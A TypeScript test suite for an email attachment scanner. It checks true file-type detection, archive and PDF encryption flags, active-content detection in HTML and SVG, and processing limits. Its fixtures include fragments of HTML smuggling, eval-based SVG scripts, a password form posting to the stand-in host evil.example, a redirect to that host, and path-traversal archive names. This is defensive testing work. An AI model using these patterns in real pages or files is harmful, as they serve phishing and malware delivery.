import { readdirSync, readFileSync } from 'node:fs';
import { join } from 'node:path';
import { describe, expect, test } from '@jest/globals';
import fc from 'fast-check';
import type { Attachment } from '../../src/domain/message.ts';
import { attachments, readAttachments } from '../../src/traits/attachments.ts';
import { cpuClock } from '../cpuTime.ts';
import { latin1, part, rar4, rar5, zip } from './parts.ts';

const OLETOOLS = join(import.meta.dirname, '..', 'fixtures', 'oletools');

async function only(...args: Parameters<typeof part>): Promise<Attachment> {
  const [file] = await attachments({ parts: [part(...args)] });
  if (file === undefined) throw new Error('no attachment');
  return file;
}

describe('type by content', () => {
  const png = latin1('\x89PNG\r\n\x1a\n\0\0\0\rIHDR');
  const exe = latin1(`MZ\x90\0${'\0'.repeat(80)}`);
  test.each([
    ['a picture', 'a.png', png, 'png', 'image'],
    ['a picture under another name', 'a.jpg', png, 'png', 'image'],
    ['a program', 'setup.exe', exe, 'exe', 'executable'],
    ['a program dressed up', 'invoice.pdf', exe, 'exe', 'executable'],
    ['text that begins like a program', 'a.txt', 'MZ, my friend', 'txt', 'text'],
    ['a PDF', 'a.pdf', '%PDF-1.7\n', 'pdf', 'pdf'],
    ['a PDF after junk', 'a.pdf', latin1('\0\0junk%PDF-1.7\n'), 'pdf', 'pdf'],
    ['a page', 'a.html', '<!doctype html><p>x', 'html', 'html'],
    ['a page under the name of a document', 'a.doc', '\n <HTML><body>', 'html', 'html'],
    ['a page that begins like a picture', 'a.htm', 'GIF89a=1;<script>x()</script>', 'htm', 'html'],
    ['a page that begins like a PDF', 'a.html', '%PDF-1.4\n<script>x()</script>', 'html', 'html'],
    ['a page with zero bytes', 'a.html', latin1('\0\0PK\x03\x04<script>x()</script>'), 'html', 'html'],
    ['a page in UTF-16', 'a.doc', Buffer.from('\ufeff<html><body>', 'utf16le'), 'html', 'html'],
    ['a drawing', 'a.svg', '<svg xmlns="x"></svg>', 'svg', 'svg'],
    ['a drawing as XML', 'a.xml', '<?xml version="1.0"?><!-- x --><svg:svg xmlns:svg="x"/>', 'svg', 'svg'],
    ['XML', 'a.xml', '<?xml version="1.0"?><Workbook><Table/></Workbook>', 'xml', 'text'],
    ['a script', 'a.js', 'var a = 1;', 'js', 'script'],
    ['an encoded script', 'a.txt', '#@~^xxx==', 'txt', 'text'],
    ['a batch file', 'a.bat', '@echo off', 'bat', 'script'],
    ['a shell script without a name', undefined, '#!/bin/sh\n', 'sh', 'script'],
    ['a shortcut', 'a.lnk', latin1('L\0\0\0\x01\x14\x02\0'), 'lnk', 'shortcut'],
    ['an internet shortcut', 'a.txt.url', '[InternetShortcut]\nURL=x', 'url', 'shortcut'],
    ['a calendar', undefined, 'BEGIN:VCALENDAR\n', 'ics', 'calendar'],
    ['a card', undefined, 'BEGIN:VCARD\n', 'vcf', 'text'],
    ['a mail', undefined, 'Received: from x\nFrom: a@b.example\n\nHi', 'eml', 'message'],
    [
      'a web archive under the name of a document',
      'a.doc',
      'MIME-Version: 1.0\nContent-Type: multipart/related\n',
      'mht',
      'html',
    ],
    ['a list of numbers', 'a.csv', 'a,b\n1,2\n', 'csv', 'spreadsheet'],
    ['program text', 'a.c', 'int main(void)', 'txt', 'text'],
    ['text under the name of a document', 'a.pdf', 'hello', 'txt', 'text'],
    ['an image of a disk', 'a.img', Buffer.concat([Buffer.alloc(32_769), Buffer.from('CD001')]), 'iso', 'disk-image'],
    [
      'a virtual disk',
      'a.bin',
      Buffer.concat([Buffer.alloc(1_024), latin1('conectix'), Buffer.alloc(504)]),
      'vhd',
      'disk-image',
    ],
    ['a help file', 'a.chm', latin1('ITSF\x03\0\0\0'), 'chm', 'executable'],
    ['notes', 'a.one', latin1('\xe4\x52\x5c\x7b\x8c\xd8\xa7\x4d'), 'one', 'document'],
    ['rich text', 'a.doc', '{\\rtf1', 'rtf', 'document'],
    ['a library of Java', 'a.jar', zip(['META-INF/MANIFEST.MF', 'A.class']), 'jar', 'executable'],
    ['an app', 'a.zip', zip(['AndroidManifest.xml']), 'apk', 'executable'],
    ['a document without content types', 'a.docx', zip(['word/document.xml']), 'zip', 'document'],
    ['a document', 'a.bin', zip(['[Content_Types].xml', 'word/document.xml']), 'docx', 'document'],
    ['a document with macros', 'a.docx', zip(['[Content_Types].xml', 'word/vbaProject.bin']), 'docm', 'document'],
    ['a binary workbook', 'a.xlsx', zip(['[Content_Types].xml', 'xl/workbook.bin']), 'xlsb', 'spreadsheet'],
    ['an open document', 'a.odt', zip([], { mimetype: 'application/vnd.oasis.opendocument.text' }), 'odt', 'document'],
    ['a video, by file-type', 'a', latin1('\0\0\0\x18ftypisom\0\0\0\0isom'), 'mp4', 'video'],
    ['noise', 'a.dat', latin1('\x01\x02\x03\x04\x05'), undefined, 'unknown'],
    ['nothing', 'a.docx', '', undefined, 'document'],
  ])('%s', async (_name, fileName, content, trueType, kind) => {
    const file = await only(fileName, content);
    expect({ trueType: file.trueType, kind: file.kind }).toEqual({ trueType, kind });
  });

  test.each([
    ['text/html', 'words', 'html'],
    ['text/plain', 'words', 'text'],
    ['application/pgp-signature', '-----BEGIN PGP SIGNATURE-----', 'signature'],
    ['image/png', latin1('\x01\x02\x03\x04\x05'), 'image'],
    ['message/rfc822', 'hello', 'message'],
  ])('declared as %s, without a name', async (declaredType, content, kind) => {
    expect((await only(undefined, content, { declaredType })).kind).toBe(kind);
  });

  test('a declared signature is no excuse for a program', async () => {
    expect((await only('a.exe', exe, { declaredType: 'application/pgp-signature' })).kind).toBe('executable');
  });
});

describe('real documents (oletools)', () => {
  test.each([
    ['encrypted.doc', 'doc', 'document', true],
    ['encrypted.xls', 'xls', 'spreadsheet', true],
    ['encrypted.ppt', 'ppt', 'presentation', true],
    ['encrypted.xlsx', 'cfb', 'spreadsheet', true],
    ['harmless-clean.doc', 'doc', 'document', false],
    ['harmless-clean.docx', 'docx', 'document', false],
    ['oleform-PR314.docm', 'docm', 'document', false],
    ['embedded-simple-2007.odt', 'odt', 'document', false],
    ['embedded-simple-2007.ods', 'ods', 'spreadsheet', false],
    ['embedded-simple-2007.xlsx', 'xlsx', 'spreadsheet', false],
    ['excel4_sample_macro.xlsb', 'xlsb', 'spreadsheet', false],
    ['dde-test-from-office2003.doc.zip', 'zip', 'archive', true],
  ])('%s', async (name, trueType, kind, isEncrypted) => {
    expect(await only(name, readFileSync(join(OLETOOLS, name)))).toMatchObject({ trueType, kind, isEncrypted });
  });

  test('any of them damaged anywhere is read', async () => {
    const names = readdirSync(OLETOOLS).filter((name) => !/^[A-Z]/.test(name));
    const files = names.map((name) => readFileSync(join(OLETOOLS, name)));
    const damage = fc.record({
      file: fc.constantFrom(...files),
      at: fc.double({ min: 0, max: 0.999, noNaN: true }),
      bytes: fc.uint8Array({ minLength: 1, maxLength: 40 }),
      keep: fc.double({ min: 0.01, max: 1, noNaN: true }),
    });
    await fc.assert(
      fc.asyncProperty(damage, async ({ file, at, bytes, keep }) => {
        const damaged = Buffer.from(file.subarray(0, Math.ceil(file.length * keep)));
        damaged.set(
          bytes.subarray(0, Math.max(0, damaged.length - Math.floor(damaged.length * at))),
          Math.floor(damaged.length * at),
        );
        expect((await only('a.bin', damaged)).sha256).toHaveLength(64);
      }),
      { numRuns: 200 },
    );
  });
});

describe('archives', () => {
  test.each([
    ['zip', zip(['a.js', 'b\\c.exe', 'folder/', '../../d.txt']), false, ['a.js', 'b/c.exe', '../../d.txt']],
    ['zip, locked', zip(['a.js'], { flags: 1 }), true, ['a.js']],
    ['rar 4', rar4(['a.exe', 'b.txt']), false, ['a.exe', 'b.txt']],
    ['rar 4, locked', rar4(['a.exe'], { fileFlags: 4 }), true, ['a.exe']],
    ['rar 4, names locked', rar4(['a.exe'], { mainFlags: 0x80 }), true, []],
    ['rar 5', rar5(['a.exe', 'b.txt']), false, ['a.exe', 'b.txt']],
    ['rar 5, locked', rar5(['a.exe'], { isLocked: true }), true, ['a.exe']],
    ['rar 5, names locked', rar5(['a.exe'], { hidesNames: true }), true, []],
  ])('%s', async (_name, content, isEncrypted, entryNames) => {
    expect(await only('a.bin', content)).toMatchObject({ kind: 'archive', isEncrypted, entryNames });
  });

  test('at most 100 names', async () => {
    const names = Array.from({ length: 300 }, (_, i) => `${i}.txt`);
    expect((await only('a.zip', zip(names))).entryNames).toHaveLength(100);
    expect((await only('a.rar', rar4(names))).entryNames).toHaveLength(100);
  });

  test('a zip cut short is still a zip', async () => {
    expect(await only('a.zip', zip(['a.js']).subarray(0, 20))).toMatchObject({ trueType: 'zip', entryNames: [] });
  });

  test.each([
    ['a locked list of files', [0x17, 6, 0x06, 0xf1, 0x07, 0x01], true],
    ['a plain one', [0x01, 4, 6], false],
  ])('7z with %s', async (_name, list, isEncrypted) => {
    const head = Buffer.alloc(32);
    latin1('7z\xbc\xaf\x27\x1c').copy(head);
    head.writeBigUInt64LE(0n, 12);
    head.writeBigUInt64LE(BigInt(list.length), 20);
    expect(await only('a.7z', Buffer.concat([head, Buffer.from(list)]))).toMatchObject({ trueType: '7z', isEncrypted });
  });

  test.each([
    ['in the trailer', `%PDF-1.7\n${'x'.repeat(200_000)}\ntrailer\n<< /Encrypt 5 0 R >>`, true],
    ['at the beginning of a linearised file', `%PDF-1.7\ntrailer <</Encrypt<</V 1>>>>${'x'.repeat(200_000)}`, true],
    ['not', '%PDF-1.7\ntrailer\n<< /EncryptMetadata true /Encrypted (x) >>', false],
  ])('a PDF locked %s', async (_name, content, isEncrypted) => {
    expect((await only('a.pdf', content)).isEncrypted).toBe(isEncrypted);
  });
});

describe('pages', () => {
  const smuggling =
    '<html><body onload="go()"><script>function go(){var b=new Blob([atob(x)]);a.href=URL.createObjectURL(b);a.download="x.zip"}</script>';
  test.each([
    ['smuggling', 'a.html', smuggling, ['script 1', 'atob', 'Blob', 'createObjectURL', 'download', 'onload']],
    [
      'a drawing',
      'a.svg',
      '<svg onload="eval(unescape(x))"><a xlink:href="javascript:x()"/></svg>',
      ['javascript: link 1', 'unescape', 'eval', 'onload'],
    ],
    [
      'handlers of any name and number, which hide nothing',
      'a.html',
      `<body ${Array.from({ length: 22 }, (_, at) => `on${at}="x"`).join(' ')}><input type=password><script>eval(atob(x))</script>`,
      ['script 1', 'password field 1', 'atob', 'eval', ...Array.from({ length: 16 }, (_, at) => `on${at}`)],
    ],
    ['a log-in', 'a.htm', '<form action="https://evil.example/p"><input type="password"></form>', ['password field 1']],
    [
      'a redirect',
      'a.html',
      '<meta http-equiv="refresh" content="0;url=https://evil.example/">',
      ['refresh redirect 1'],
    ],
    ['plain', 'a.html', '<p>The word eval( is no script</p>', []],
  ])('%s', async (_name, fileName, content, expected) => {
    expect((await only(fileName, content)).activeContent).toEqual(expected);
  });

  test('their links are the message’s', async () => {
    const { links } = await readAttachments({
      parts: [part('a.html', '<form action="https://evil.example/p"></form><a href="/x">')],
    });
    expect(links).toMatchObject([{ url: 'https://evil.example/p', source: 'attachment' }]);
  });
});

describe('bounds', () => {
  test.each([
    ['a page of 3 MB', 'a.html', `<html>${'<div a=1>x'.repeat(300_000)}`],
    ['a script of 3 MB', 'a.html', `<script>${'atob(x);'.repeat(400_000)}`],
    ['end tags', 'a.html', `<b>${'<i>'.repeat(250)}${'</b>'.repeat(250_000)}`],
    ['a zip of 20,000 entries', 'a.zip', zip(Array.from({ length: 20_000 }, (_, i) => `${i}`))],
    ['rar headers of no data', 'a.rar', rar4(Array.from({ length: 20_000 }, () => 'a'))],
    ['20 MB of zeros', 'a.bin', Buffer.alloc(20_000_000)],
    ['a compound file that runs in a circle', 'a.doc', circularCompoundFile()],
  ])('%s in time', async (_name, fileName, content) => {
    const bytes = Buffer.from(content);
    const spentMs = cpuClock();
    await only(fileName, bytes);
    expect(spentMs()).toBeLessThan(5_000);
  });

  function circularCompoundFile(): Buffer {
    const content = Buffer.alloc(2_048);
    latin1('\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1').copy(content);
    content.writeUInt16LE(9, 30);
    return content; // every table says: sector 0 follows
  }

  test('many pages together cost no more than two megabytes', async () => {
    const page = part('a.html', `<html>${'<b>x</b>'.repeat(100_000)}<script>x()</script>`);
    const spentMs = cpuClock();
    const { attachments: files } = await readAttachments({ parts: Array.from({ length: 50 }, () => page) });
    expect(spentMs()).toBeLessThan(5_000);
    expect(files.filter(({ activeContent }) => activeContent.length > 0).length).toBeLessThan(50);
  });

  test('any bytes under any name are read', async () => {
    const name = fc.constantFrom('a.html', 'a.zip', 'a.rar', 'a.doc', 'a.pdf', 'a.7z', 'a', 'a.svg');
    const mark = fc.constantFrom(
      '',
      'PK\x03\x04',
      'Rar!\x1a\x07\0',
      'Rar!\x1a\x07\x01\0',
      '\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1',
      '7z\xbc\xaf\x27\x1c',
      'RIFF',
      'BM',
      'MZ',
      '\xca\xfe\xba\xbe',
    );
    await fc.assert(
      fc.asyncProperty(name, mark, fc.uint8Array({ maxLength: 2_000 }), async (fileName, start, rest) => {
        const file = await only(fileName, Buffer.concat([latin1(start), rest]));
        expect(file.entryNames.length).toBeLessThanOrEqual(100);
      }),
      { numRuns: 300 },
    );
  });
});
